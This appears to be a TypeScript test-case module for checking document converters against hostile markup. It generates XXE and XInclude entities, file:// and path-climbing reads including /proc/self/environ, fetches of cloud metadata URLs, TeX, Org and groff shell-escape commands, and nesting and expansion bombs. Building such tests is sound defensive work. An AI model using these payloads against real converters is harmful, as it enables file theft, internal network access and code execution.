/** Markup that includes files, fetches addresses or nests without end, in every dialect. */
import { inCategory, type Bait, type FileCase } from '../case.ts';
import { laughs } from './bombs.ts';

/** By WeasyPrint, LibreOffice, pandoc and calibre. */
const pages = ['pdf', 'docx', 'epub', 'mobi', 'odt', 'md'];
const docs = ['html', 'docx', 'epub', 'pdf'];

const html = (inside: string, head = '') =>
  `<!DOCTYPE html><html><head><title>x</title>${head}</head><body>${inside}<p>x</p></body></html>`;

type Asks = readonly [name: string, kind: FileCase['kind'], make: (bait: Bait) => string];

const webPages: readonly Asks[] = [
  ['image-file', 'read', ({ picture }) => html(`<img src="file://${picture}">`)],
  ['image-path', 'read', ({ picture }) => html(`<img src="${picture}">`)],
  ['image-climbing', 'read', ({ tempPicture }) => html(`<img src="../../../../../..${tempPicture}">`)],
  ['image-http', 'network', ({ url }) => html(`<img src="${url}picture.png">`)],
  ['image-upper-case', 'network', ({ url }) => html(`<img src="${url.replace('http', 'HTTP')}picture.png">`)],
  ['image-host', 'network', ({ host }) => html(`<img src="//${host}/picture.png"><img src="http://${host}/x.png">`)],
  ['image-metadata', 'network', ({ metadata }) => html(`<img src="${metadata}latest/meta-data/">`)],
  ['frame-file', 'read', ({ text }) => html(`<iframe src="file://${text}"></iframe><embed src="file://${text}"><object data="file://${text}"></object>`)],
  ['base', 'network', ({ url }) => html('<img src="picture.png">', `<base href="${url}">`)],
  ['stylesheet', 'network', ({ url }) => html('', `<link rel="stylesheet" href="${url}sheet.css"><style>@import "${url}sheet2.css"; body { background: url("${url}back.png") }</style>`)],
  ['stylesheet-file', 'read', ({ text }) => html('', `<link rel="stylesheet" href="file://${text}"><style>@import "file://${text}";</style>`)],
  ['font', 'network', ({ url }) => html('', `<style>@font-face { font-family: f; src: url("${url}f.ttf") } body { font-family: f }</style>`)],
  ['attachment', 'read', ({ text }) => html(`<a rel="attachment" href="file://${text}">x</a>`, `<link rel="attachment" href="file://${text}">`)],
  ['link', 'read', ({ text }) => html(`<a href="file://${text}">x</a><a href="${text}">y</a>`)],
  ['refresh', 'network', ({ url }) => html('', `<meta http-equiv="refresh" content="0;url=${url}">`)],
  ['script', 'network', ({ url }) => html(`<script>fetch("${url}x"); new Image().src = "${url}y.png"; new WebSocket("${url}".replace("http", "ws"))</script>`)],
  ['script-file', 'read', ({ text }) => html(`<script>var r = new XMLHttpRequest(); r.open("GET", "file://${text}", false); r.send(); document.write(r.responseText)</script>`)],
  ['media', 'network', ({ url }) => html(`<video src="${url}v.mp4" poster="${url}p.png"></video><audio src="${url}a.mp3"></audio><picture><source srcset="${url}s.png"></picture><track src="${url}t.vtt">`)],
  ['svg', 'read', ({ picture, text }) => html(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://${picture}" width="9" height="9"/><use xlink:href="file://${text}#x"/></svg>`)],
  ['css-content', 'read', ({ picture }) => html('', `<style>p::before { content: url("file://${picture}") } li { list-style-image: url("file://${picture}") }</style>`)],
];

const hypertext: readonly FileCase[] = [
  ...webPages.map(([name, kind, make]): FileCase => ({ name: `html-${name}`, kind, ext: 'html', to: pages, make })),
  {
    name: 'xhtml-xxe',
    kind: 'read',
    ext: 'xhtml',
    to: ['pdf', 'epub', 'docx', 'md'],
    make: ({ text }) =>
      `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file://${text}">]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>&x;</p></body></html>`,
  },
  { name: 'html-deep', kind: 'resource', ext: 'html', to: pages, make: () => html('<div>'.repeat(100_000)), long: true },
  { name: 'html-deep-table', kind: 'resource', ext: 'html', to: ['pdf', 'docx', 'epub'], make: () => html('<table><tr><td>'.repeat(3000)), long: true },
  {
    name: 'html-wide-table',
    kind: 'resource',
    ext: 'html',
    to: ['pdf', 'docx', 'xlsx', 'csv', 'json'],
    make: () => html('<table><tr><td colspan="65534" rowspan="65534">x</td></tr><tr><td colspan="1000000000">y</td></tr></table>'),
  },
  {
    name: 'html-large-page',
    kind: 'resource',
    ext: 'html',
    to: ['pdf'],
    make: () => html('<div style="height: 100000000cm">x</div>', '<style>@page { size: 1cm 1cm; margin: 0 }</style>'),
    long: true,
  },
  {
    name: 'html-float-columns',
    kind: 'resource',
    ext: 'html',
    to: ['pdf'],
    make: () => html(`<div style="columns: 1000">${'<span style="float: left">x</span>'.repeat(50_000)}</div>`),
    long: true,
  },
  {
    name: 'html-image-data-bomb',
    kind: 'resource',
    ext: 'html',
    to: ['pdf', 'docx', 'epub'],
    make: () => html(`<img src="data:image/gif;base64,${Buffer.from('474946383961ffffffff800000000000ffffff2c00000000ffffffff0002024c01003b', 'hex').toString('base64')}">`),
  },
];

const markdown: readonly Asks[] = [
  ['image-file', 'read', ({ picture }) => `# x\n\n![x](file://${picture})\n`],
  ['image-path', 'read', ({ picture, tempPicture }) => `# x\n\n![x](${picture}) ![y](../../../../../..${tempPicture})\n`],
  ['image-http', 'network', ({ url }) => `# x\n\n![x](${url}picture.png)\n`],
  ['raw-html', 'read', ({ text, picture }) => `# x\n\n<iframe src="file://${text}"></iframe>\n\n<img src="${picture}">\n`],
  ['raw-tex', 'read', ({ text }) => `# x\n\n\\input{${text}}\n\n\`\`\`{=latex}\n\\input{${text}}\n\`\`\`\n`],
  ['metadata', 'read', ({ text }) => `---\ntitle: x\nbibliography: ${text}\ncsl: ${text}\ncss: ${text}\ntemplate: ${text}\nreference-doc: ${text}\nepub-cover-image: ${text}\ncover-image: ${text}\ninclude-before: ${text}\n---\n\nx [@a]\n`],
  ['metadata-http', 'network', ({ url }) => `---\ntitle: x\nbibliography: ${url}b.bib\ncsl: ${url}s.csl\ncover-image: ${url}c.png\nheader-includes: "<script src='${url}s.js'></script>"\n---\n\nx [@a]\n`],
  ['include', 'read', ({ text }) => `# x\n\n!include ${text}\n\n\`\`\`{include="${text}"}\n\`\`\`\n\n{{ include("${text}") }}\n`],
];

const included: readonly (readonly [ext: string, ...Asks])[] = [
  ['rst', 'include', 'read', ({ text }) => `x\n=\n\n.. include:: ${text}\n`],
  ['rst', 'raw', 'read', ({ text }) => `x\n=\n\n.. raw:: html\n   :file: ${text}\n`],
  ['rst', 'raw-url', 'network', ({ url }) => `x\n=\n\n.. raw:: html\n   :url: ${url}x.html\n`],
  ['rst', 'table', 'read', ({ text }) => `x\n=\n\n.. csv-table:: t\n   :file: ${text}\n`],
  ['rst', 'environment', 'read', () => 'x\n=\n\n.. include:: /proc/self/environ\n\n.. include:: /proc/1/environ\n'],
  ['rst', 'image', 'read', ({ picture }) => `x\n=\n\n.. image:: ${picture}\n`],
  ['rst', 'code', 'read', ({ text }) => `x\n=\n\n.. literalinclude:: ${text}\n\n.. code-block:: text\n   :file: ${text}\n`],
  ['org', 'include', 'read', ({ text }) => `* x\n#+INCLUDE: "${text}"\n`],
  ['org', 'include-source', 'read', ({ text }) => `* x\n#+INCLUDE: "${text}" src text\n`],
  ['org', 'setup', 'read', ({ text, url }) => `#+SETUPFILE: ${text}\n#+SETUPFILE: ${url}x.org\n* x\n`],
  ['org', 'macro', 'code', ({ marker }) => `#+MACRO: m (eval (shell-command "touch ${marker}"))\n#+BEGIN_SRC sh :exports results\ntouch ${marker}\n#+END_SRC\n{{{m}}}\n`],
  ['tex', 'input', 'read', ({ text }) => `\\documentclass{article}\\begin{document}x \\input{${text}}\\end{document}\n`],
  ['tex', 'include', 'read', ({ text, picture }) => `\\documentclass{article}\\begin{document}\\include{${text}} \\verbatiminput{${text}} \\lstinputlisting{${text}} \\includegraphics{${picture}}\\end{document}\n`],
  ['tex', 'package', 'read', ({ text }) => `\\documentclass{article}\\usepackage{${text}}\\RequirePackage{${text}}\\begin{document}x\\end{document}\n`],
  ['tex', 'bibliography', 'read', ({ text }) => `\\documentclass{article}\\begin{document}x \\cite{a} \\bibliography{${text}}\\addbibresource{${text}}\\end{document}\n`],
  ['tex', 'shell', 'code', ({ marker }) => `\\documentclass{article}\\begin{document}\\immediate\\write18{touch ${marker}} \\input{|"touch ${marker}"} \\directlua{os.execute("touch ${marker}")}\\end{document}\n`],
  ['tex', 'write', 'write', ({ marker }) => `\\documentclass{article}\\begin{document}\\newwrite\\f\\immediate\\openout\\f=${marker}\\immediate\\write\\f{x}\\closeout\\f\\end{document}\n`],
  ['adoc', 'include', 'read', ({ text }) => `= x\n\ninclude::${text}[]\n`],
  ['adoc', 'include-http', 'network', ({ url }) => `= x\n:allow-uri-read:\n\ninclude::${url}x.adoc[]\n\nimage::${url}x.png[]\n`],
  ['adoc', 'image-data', 'read', ({ picture }) => `= x\n:data-uri:\n:imagesdir: /\n\nimage::${picture}[]\nimage::${picture}[opts=inline]\n`],
  ['adoc', 'docinfo', 'read', ({ text }) => `= x\n:docinfo: shared\n:docinfodir: ${text.replace(/\/[^/]*$/, '')}\n:stylesheet: ${text}\n:linkcss!:\n:source-highlighter: pygments\n\nx\n`],
  ['adoc', 'csv', 'read', ({ text }) => `= x\n\n[format=csv]\n|===\ninclude::${text}[]\n|===\n\n,===\ninclude::${text}[]\n,===\n`],
  ['t2t', 'include', 'read', ({ text }) => `x\n\n\n%!include: ${text}\n%!include: ''${text}''\n%!include: \`\`${text}\`\`\n`],
  ['man', 'source', 'read', ({ text }) => `.TH x 1\n.SH NAME\nx\n.so ${text}\n.mso ${text}\n`],
  ['man', 'shell', 'code', ({ marker }) => `.TH x 1\n.SH NAME\nx\n.sy touch ${marker}\n.pso touch ${marker}\n.open f ${marker}\n`],
  ['mediawiki', 'include', 'read', ({ text, picture }) => `= x =\n{{${text}}}\n[[File:${picture}]]\n`],
  ['textile', 'image', 'read', ({ picture }) => `h1. x\n\n!${picture}!\n\n!file://${picture}!\n`],
  ['creole', 'image', 'read', ({ picture }) => `= x =\n{{${picture}|x}}\n`],
  ['muse', 'include', 'read', ({ text, picture }) => `* x\n\n<include file="${text}">\n\n[[${picture}]]\n`],
  ['jira', 'image', 'network', ({ url }) => `h1. x\n\n!${url}x.png!\n`],
  ['dokuwiki', 'image', 'network', ({ url }) => `====== x ======\n{{${url}x.png}}\n{{rss>${url}x.rss}}\n`],
  ['ipynb', 'image', 'read', ({ picture }) => JSON.stringify({ cells: [{ cell_type: 'markdown', metadata: {}, source: [`![x](${picture})`] }], metadata: {}, nbformat: 4, nbformat_minor: 5 })],
  ['bib', 'file', 'read', ({ text }) => `@article{a, title = {x}, file = {${text}}, abstract = {\\input{${text}}}}\n`],
];

const xml: readonly (readonly [ext: string, start: string, end: string])[] = [
  ['docbook', '<article xmlns="http://docbook.org/ns/docbook" xmlns:xi="http://www.w3.org/2001/XInclude"><title>x</title><para>', '</para></article>'],
  ['jats', '<article xmlns:xi="http://www.w3.org/2001/XInclude"><body><p>', '</p></body></article>'],
  ['opml', '<opml version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>x</title></head><body><outline text="x">', '</outline></body></opml>'],
  ['fb2', '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><description><title-info><book-title>x</book-title></title-info></description><body><section><p>', '</p></section></body></FictionBook>'],
];

const trees: readonly FileCase[] = xml.flatMap(([ext, start, end]): FileCase[] => {
  const to = ext === 'fb2' ? ['epub', 'txt', 'html'] : ['html', 'docx', 'md', 'epub'];
  const book = (inside: string, type = '') => `<?xml version="1.0" encoding="UTF-8"?>\n${type}${start}${inside}${end}`;
  return [
    { name: `${ext}-xxe`, kind: 'read', ext, to, make: ({ text }) => book('&x;', `<!DOCTYPE x [<!ENTITY x SYSTEM "file://${text}">]>`) },
    { name: `${ext}-xxe-http`, kind: 'network', ext, to, make: ({ url }) => book('&x;', `<!DOCTYPE x [<!ENTITY % p SYSTEM "${url}x.dtd"> %p; <!ENTITY x SYSTEM "${url}x.txt">]>`) },
    { name: `${ext}-xinclude`, kind: 'read', ext, to, make: ({ text }) => book(`<xi:include href="file://${text}" parse="text"/>`) },
    { name: `${ext}-laughs`, kind: 'resource', ext, to, make: () => book('&l9;', `<!DOCTYPE x [${laughs}]>`) },
  ];
});

const nests: readonly (readonly [ext: string, name: string, make: () => string])[] = [
  ['md', 'deep', () => '> '.repeat(5000) + 'x\n'],
  ['md', 'brackets', () => '['.repeat(100_000)],
  ['md', 'emphasis', () => '*a **a '.repeat(50_000)],
  ['md', 'lists', () => Array.from({ length: 2000 }, (_, n) => `${' '.repeat(n * 2)}- x`).join('\n')],
  ['rst', 'deep', () => Array.from({ length: 2000 }, (_, n) => `${' '.repeat(n * 2)}* x\n`).join('\n')],
  ['org', 'deep', () => '*'.repeat(100_000) + ' x\n'],
  ['tex', 'macro-loop', () => '\\documentclass{article}\\newcommand{\\a}{\\a\\a}\\begin{document}\\a\\end{document}\n'],
  ['tex', 'macro-bomb', () => `\\documentclass{article}\\newcommand{\\a}{x}${Array.from({ length: 25 }, (_, n) => `\\newcommand{\\${'b'.repeat(n + 2)}}{${`\\${n ? 'b'.repeat(n + 1) : 'a'}{}`.repeat(8)}}`).join('')}\\begin{document}\\${'b'.repeat(26)}\\end{document}\n`],
  ['tex', 'deep', () => `\\documentclass{article}\\begin{document}${'{'.repeat(100_000)}\\end{document}\n`],
  ['mediawiki', 'deep', () => `${'{{'.repeat(50_000)}\n${'*'.repeat(5000)} x\n`],
  ['textile', 'deep', () => '*_'.repeat(50_000) + 'x\n'],
  ['adoc', 'deep', () => `= x\n\n${Array.from({ length: 3000 }, (_, n) => `${'*'.repeat(n + 1)} x`).join('\n')}\n`],
  ['adoc', 'macro-bomb', () => `= x\n:a0: ${'x'.repeat(99)}\n${Array.from({ length: 12 }, (_, n) => `:a${n + 1}: ${`{a${n}}`.repeat(10)}`).join('\n')}\n\n{a12}\n`],
  ['docbook', 'deep', () => `<article>${'<section><title>x</title>'.repeat(50_000)}${'</section>'.repeat(50_000)}</article>`],
  ['ipynb', 'deep', () => '{"cells":'.repeat(100_000)],
  ['bib', 'string-bomb', () => `@string{s0 = "x"}\n${Array.from({ length: 30 }, (_, n) => `@string{s${n + 1} = s${n} # s${n}}\n`).join('')}@article{a, title = s30}\n`],
  ['t2t', 'deep', () => '- '.repeat(100_000) + 'x\n'],
];

const nesting: readonly FileCase[] = nests.map(([ext, name, make]) => ({
  name: `${ext}-${name}`,
  kind: 'resource',
  ext,
  to: ['html', 'docx'],
  make,
  ...(['deep', 'macro-loop', 'macro-bomb', 'string-bomb', 'lists'].includes(name) ? { long: true as const } : {}),
}));

export const markup = inCategory('markup', [
  ...hypertext,
  ...markdown.map(([name, kind, make]): FileCase => ({ name: `md-${name}`, kind, ext: 'md', to: [...docs, 'tex'], make })),
  ...included.map(([ext, name, kind, make]): FileCase => ({ name: `${ext}-${name}`, kind, ext, to: ['html', 'docx', 'md'], make })),
  ...trees,
  ...nesting,
]);
